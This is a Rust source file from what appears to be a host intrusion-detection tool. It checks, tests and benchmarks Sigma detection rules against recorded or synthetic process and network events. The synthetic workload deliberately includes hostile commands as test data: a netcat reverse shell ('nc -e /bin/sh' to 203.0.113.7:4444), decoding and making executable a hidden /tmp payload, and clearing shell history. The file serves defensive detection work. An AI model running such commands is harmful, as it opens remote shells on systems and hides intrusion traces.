//! `shrike rules check|test` (and the hidden `bench` the xtask runs): Sigma
//! rules without the kernel and without root.

use std::{
    collections::BTreeSet,
    io::{BufRead, Write},
    path::{Path, PathBuf},
    time::Instant,
};

use chrono::{DateTime, Utc};
use clap::{Args, Subcommand};

use super::{SigmaEngine, compile, fields::Category, load::Report, record};
use crate::{
    detect::{Alert, Detector},
    events::{Body, Event, Exec, Sock},
};

#[derive(Debug, Clone, Args)]
pub struct RulesArgs {
    #[command(subcommand)]
    pub command: RulesCommand,
}

#[derive(Debug, Clone, Subcommand)]
pub enum RulesCommand {
    /// Validates rule files and folders: prints `file:line: reason` for each
    /// error (exit 2) and a summary of rules loaded and skipped by reason.
    Check {
        /// Rule files, or folders searched recursively for .yml/.yaml.
        #[arg(required = true, value_name = "PATH")]
        paths: Vec<PathBuf>,
        /// Also list every skipped rule with its file, line and reason.
        #[arg(long)]
        list_skipped: bool,
    },
    /// Runs the rules over recorded `shrike events` JSON lines and prints the
    /// alerts as `shrike events` does.
    Test {
        #[arg(required = true, value_name = "PATH")]
        paths: Vec<PathBuf>,
        /// The recording (JSON lines; lines of other kinds are passed over).
        #[arg(long, value_name = "FILE.jsonl")]
        events: PathBuf,
        /// Switches a rule off by its id (repeatable) [default: none].
        #[arg(long = "disable-rule", value_name = "ID")]
        disable_rules: Vec<String>,
    },
    /// CPU per event of the Sigma stage with these rules (for `cargo xtask
    /// bench --sigma`).
    #[command(hide = true)]
    Bench {
        #[arg(required = true, value_name = "PATH")]
        paths: Vec<PathBuf>,
        /// A recording to replay instead of the built-in mix [default: the
        /// built-in mix].
        #[arg(long, value_name = "FILE.jsonl")]
        events: Option<PathBuf>,
        /// Times the events are replayed through the rules.
        #[arg(long, default_value_t = 20)]
        rounds: usize,
    },
}

/// Runs the subcommand; the process's exit code (2: rules in error).
pub fn run(args: &RulesArgs) -> i32 {
    match &args.command {
        RulesCommand::Check { paths, list_skipped } => check(paths, *list_skipped),
        RulesCommand::Test { paths, events, disable_rules } => test(paths, events, disable_rules),
        RulesCommand::Bench { paths, events, rounds } => bench(paths, events.as_deref(), *rounds),
    }
}

fn summary(r: &Report) -> String {
    let skipped: u64 = r.skipped.values().sum();
    let mut s = format!(
        "{} files: {} rules loaded ({} detection, {} correlation{}), {} skipped, {} errors",
        r.files,
        r.loaded(),
        r.detections,
        r.correlations,
        if r.filters > 0 { format!(", {} filters", r.filters) } else { String::new() },
        skipped,
        r.errors.len()
    );
    for (reason, n) in &r.skipped {
        s.push_str(&format!("\n  skipped {n}: {reason}"));
    }
    s
}

fn check(paths: &[PathBuf], list_skipped: bool) -> i32 {
    let (_, report) = compile(paths, &BTreeSet::new());
    let mut out = std::io::stdout().lock();
    for e in &report.errors {
        let _ = writeln!(out, "{e}");
    }
    if list_skipped {
        for s in &report.skipped_rules {
            let _ = writeln!(out, "{s}");
        }
    }
    let _ = writeln!(out, "{}", summary(&report));
    if report.errors.is_empty() { 0 } else { 2 }
}

fn test(paths: &[PathBuf], events: &Path, disabled: &[String]) -> i32 {
    let disabled: BTreeSet<String> = disabled.iter().cloned().collect();
    let (engine, report) = compile(paths, &disabled);
    if !report.errors.is_empty() {
        for e in &report.errors {
            eprintln!("{e}");
        }
        eprintln!("{}", summary(&report));
        return 2;
    }
    let Some(mut engine) = engine else {
        eprintln!("{}", summary(&report));
        eprintln!("error: no rule to run");
        return 2;
    };
    let file = match std::fs::File::open(events) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("error: {}: {e}", events.display());
            return 2;
        }
    };
    let mut out = std::io::BufWriter::new(std::io::stdout().lock());
    let (mut seen, mut bad, mut fired) = (0u64, 0u64, 0u64);
    let mut alerts = Vec::new();
    let mut last: Option<DateTime<Utc>> = None;
    for (i, line) in std::io::BufReader::new(file).lines().enumerate() {
        let line = match line {
            Ok(l) => l,
            Err(e) => {
                eprintln!("{}:{}: {e}", events.display(), i + 1);
                bad += 1;
                continue;
            }
        };
        if line.trim().is_empty() {
            continue;
        }
        let ev = match record::event_of_line(&line) {
            Ok(Some(ev)) => ev,
            Ok(None) => continue,
            Err(e) => {
                eprintln!("{}:{}: {e}", events.display(), i + 1);
                bad += 1;
                continue;
            }
        };
        seen += 1;
        // The agent's once-a-second tick, on the recording's own time.
        if last.is_none_or(|t| ev.time - t >= chrono::TimeDelta::seconds(1)) {
            engine.tick(ev.time, &mut alerts);
            last = Some(ev.time);
        }
        engine.observe(&ev, &mut alerts);
        for a in alerts.drain(..) {
            fired += 1;
            if serde_json::to_writer(&mut out, &a.into_event()).is_err() || out.write_all(b"\n").is_err() {
                return 1;
            }
        }
    }
    let _ = out.flush();
    eprintln!("{}", summary(&report));
    eprintln!("{seen} events, {fired} alerts, {bad} unreadable lines");
    if bad > 0 { 1 } else { 0 }
}

// ---------------------------------------------------------------------------
// bench

/// CPU time of this thread, in ns.
fn thread_cpu_ns() -> u64 {
    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: a valid timespec to fill; the clock id is a constant.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
}

/// `shrike rules bench PATH`: CPU per event of the Sigma stage with the rules
/// loaded, per category, over a recorded file (`--events`) or a built-in mix
/// of gateway activity. One JSON line on stdout for the xtask.
fn bench(paths: &[PathBuf], events: Option<&Path>, rounds: usize) -> i32 {
    let t0 = Instant::now();
    let (engine, report) = compile(paths, &BTreeSet::new());
    let load_ms = t0.elapsed().as_secs_f64() * 1e3;
    for e in &report.errors {
        eprintln!("{e}");
    }
    let Some(mut engine) = engine else {
        eprintln!("{}", summary(&report));
        return 2;
    };
    let evs = match events {
        Some(p) => match recorded(p) {
            Ok(e) => e,
            Err(e) => {
                eprintln!("error: {}: {e}", p.display());
                return 2;
            }
        },
        None => synthetic(),
    };
    let mut result = serde_json::Map::new();
    result.insert("rules_loaded".into(), report.loaded().into());
    result.insert("rules_skipped".into(), report.skipped.values().sum::<u64>().into());
    result.insert("load_ms".into(), load_ms.into());
    let mut alerts = Vec::new();
    for cat in Category::ALL {
        let subset: Vec<&Event> = evs.iter().filter(|e| Category::of(e) == Some(cat)).collect();
        if subset.is_empty() {
            continue;
        }
        // One warm-up pass, then the measured rounds.
        run_once(&mut engine, &subset, &mut alerts);
        let fired = alerts.len();
        alerts.clear();
        let start = thread_cpu_ns();
        for _ in 0..rounds.max(1) {
            run_once(&mut engine, &subset, &mut alerts);
            alerts.clear();
        }
        let per = (thread_cpu_ns() - start) as f64 / (subset.len() * rounds.max(1)) as f64 / 1e3;
        result.insert(
            cat.name().into(),
            serde_json::json!({ "events": subset.len(), "alerts_per_pass": fired, "us_per_event": per }),
        );
        eprintln!(
            "{}: {:.3} µs CPU per event ({} events x {} rounds, {fired} alerts per pass)",
            cat.name(),
            per,
            subset.len(),
            rounds.max(1)
        );
    }
    eprintln!("{}", summary(&report));
    println!("{}", serde_json::Value::Object(result));
    0
}

fn run_once(engine: &mut SigmaEngine, evs: &[&Event], alerts: &mut Vec<Alert>) {
    for ev in evs {
        engine.observe(ev, alerts);
    }
}

fn recorded(p: &Path) -> Result<Vec<Event>, String> {
    let text = std::fs::read_to_string(p).map_err(|e| e.to_string())?;
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if let Some(ev) = record::event_of_line(line).map_err(|e| format!("line {}: {e}", i + 1))? {
            out.push(ev);
        }
    }
    Ok(out)
}

/// A gateway's ordinary day: service scripts, package and network tools,
/// shells, an MQTT client, health checks; a few suspicious commands among
/// them (a rule set should fire on some), and its connections (broker,
/// DNS, cloud, local services, inbound ssh).
pub fn synthetic() -> Vec<Event> {
    const CMDS: &[(&str, &[&str], &str)] = &[
        ("/usr/bin/bash", &["bash", "-c", "/opt/gw/bin/health --quiet"], "/usr/lib/systemd/systemd"),
        ("/opt/gw/bin/health", &["/opt/gw/bin/health", "--quiet"], "/usr/bin/bash"),
        ("/usr/bin/cat", &["cat", "/proc/loadavg"], "/usr/bin/bash"),
        ("/usr/bin/grep", &["grep", "-E", "^(MemTotal|MemFree):", "/proc/meminfo"], "/usr/bin/bash"),
        ("/usr/bin/awk", &["awk", "{print $1}", "/proc/uptime"], "/usr/bin/bash"),
        ("/usr/sbin/ip", &["ip", "-j", "addr", "show", "dev", "eth0"], "/usr/bin/python3.11"),
        (
            "/usr/bin/python3.11",
            &["/usr/bin/python3", "/opt/gw/app/collector.py", "--config", "/etc/gw/collector.yaml"],
            "/usr/lib/systemd/systemd",
        ),
        (
            "/usr/bin/mosquitto_pub",
            &["mosquitto_pub", "-h", "broker.local", "-t", "gw/telemetry", "-m", "{\"t\":21.5}"],
            "/usr/bin/bash",
        ),
        ("/usr/bin/date", &["date", "+%s"], "/usr/bin/bash"),
        ("/usr/bin/sleep", &["sleep", "5"], "/usr/bin/bash"),
        ("/usr/bin/logger", &["logger", "-t", "gw", "health ok"], "/usr/bin/bash"),
        ("/usr/bin/systemctl", &["systemctl", "is-active", "mosquitto.service"], "/usr/bin/bash"),
        (
            "/usr/bin/journalctl",
            &["journalctl", "-u", "gw-collector", "--since", "-5min", "--no-pager"],
            "/usr/bin/bash",
        ),
        (
            "/usr/bin/curl",
            &["curl", "-fsS", "--max-time", "10", "https://api.example.com/v1/devices/gw-17/config"],
            "/usr/bin/bash",
        ),
        ("/usr/bin/apt-get", &["apt-get", "-qq", "update"], "/usr/lib/systemd/systemd"),
        ("/usr/bin/dpkg", &["dpkg", "--status", "openssl"], "/usr/bin/apt-get"),
        ("/usr/bin/ps", &["ps", "-eo", "pid,comm,rss"], "/usr/bin/bash"),
        ("/usr/bin/tar", &["tar", "czf", "/var/backups/gw-config.tgz", "/etc/gw"], "/usr/bin/bash"),
        (
            "/usr/bin/openssl",
            &["openssl", "x509", "-noout", "-enddate", "-in", "/etc/gw/device.crt"],
            "/usr/bin/bash",
        ),
        ("/usr/bin/sed", &["sed", "-n", "s/^VERSION_ID=//p", "/etc/os-release"], "/usr/bin/bash"),
        ("/usr/sbin/sshd", &["sshd:", "admin", "[priv]"], "/usr/sbin/sshd"),
        ("/usr/bin/bash", &["-bash"], "/usr/sbin/sshd"),
        ("/usr/bin/ls", &["ls", "-la", "/var/log"], "/usr/bin/bash"),
        (
            "/usr/bin/find",
            &["find", "/var/log/gw", "-name", "*.gz", "-mtime", "+7", "-delete"],
            "/usr/bin/bash",
        ),
        ("/usr/bin/uname", &["uname", "-a"], "/usr/bin/bash"),
        ("/usr/bin/id", &["id", "-u"], "/usr/bin/bash"),
        ("/usr/bin/cp", &["cp", "/tmp/gw-update.bin", "/opt/gw/firmware/next.bin"], "/usr/bin/bash"),
        ("/usr/bin/sha256sum", &["sha256sum", "/opt/gw/firmware/next.bin"], "/usr/bin/bash"),
        (
            "/usr/bin/wget",
            &["wget", "-q", "-O", "/tmp/gw-update.bin", "https://updates.example.com/gw/2.4.1.bin"],
            "/usr/bin/bash",
        ),
        ("/usr/bin/crontab", &["crontab", "-l"], "/usr/bin/bash"),
        // Suspicious ones.
        ("/usr/bin/base64", &["base64", "-d", "/tmp/.x"], "/usr/bin/bash"),
        ("/usr/bin/chmod", &["chmod", "+x", "/tmp/.x/run"], "/usr/bin/bash"),
        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "/usr/bin/bash"),
        ("/usr/bin/history", &["history", "-c"], "/usr/bin/bash"),
    ];
    let t0: DateTime<Utc> = "2026-12-06T04:00:00Z".parse().unwrap_or_default();
    let mut out = Vec::new();
    let base = |i: usize, pid: u32, exe: &str, body: Body| Event {
        time: t0 + chrono::TimeDelta::milliseconds(i as i64 * 10),
        ktime_ns: i as u64,
        pid,
        tid: pid,
        ppid: Some(pid - 1),
        uid: 0,
        gid: 0,
        user: Some("root".into()),
        comm: exe.rsplit('/').next().unwrap_or(exe).chars().take(15).collect(),
        exe: Some(exe.into()),
        body,
    };
    for (i, (exe, argv, parent)) in CMDS.iter().cycle().take(CMDS.len() * 30).enumerate() {
        let pid = 10_000 + i as u32;
        out.push(base(
            i,
            pid,
            exe,
            Body::Exec(Exec {
                filename: (*exe).into(),
                argv: argv.iter().map(|a| (*a).to_owned()).collect(),
                args_truncated: false,
                filename_truncated: false,
                result: 0,
                success: true,
                error: None,
                parent_exe: Some((*parent).into()),
                execveat: false,
                entry_missing: false,
                args_unreadable: false,
                path_misses: 0,
                sha256: None,
                sha256_skipped: None,
            }),
        ));
    }
    const CONNS: &[(&str, &str, u16, bool)] = &[
        ("/usr/bin/python3.11", "10.0.0.5", 1883, true),
        ("/usr/bin/python3.11", "127.0.0.53", 53, true),
        ("/usr/bin/curl", "93.184.216.34", 443, true),
        ("/usr/sbin/mosquitto", "10.0.0.23", 1883, false),
        ("/usr/sbin/sshd", "192.168.1.20", 22, false),
        ("/usr/bin/wget", "151.101.2.132", 443, true),
        ("/usr/lib/systemd/systemd-timesyncd", "162.159.200.1", 123, true),
        ("/usr/bin/python3.11", "127.0.0.1", 8086, true),
        ("/usr/bin/nc", "203.0.113.7", 4444, true),
    ];
    for (i, (exe, remote, port, out_bound)) in CONNS.iter().cycle().take(CONNS.len() * 100).enumerate() {
        let pid = 20_000 + (i % 50) as u32;
        let sock = Sock {
            protocol: "tcp",
            family: "ipv4",
            local_addr: "10.0.0.17".parse().ok(),
            local_port: Some(if *out_bound { 40_000 + (i % 20_000) as u16 } else { *port }),
            remote_addr: remote.parse().ok(),
            remote_port: Some(if *out_bound { *port } else { 50_000 + (i % 10_000) as u16 }),
            fd: 5,
            result: 0,
            status: "success",
            error: None,
            async_outcome: false,
        };
        out.push(base(i, pid, exe, if *out_bound { Body::Connect(sock) } else { Body::Accept(sock) }));
    }
    out
}
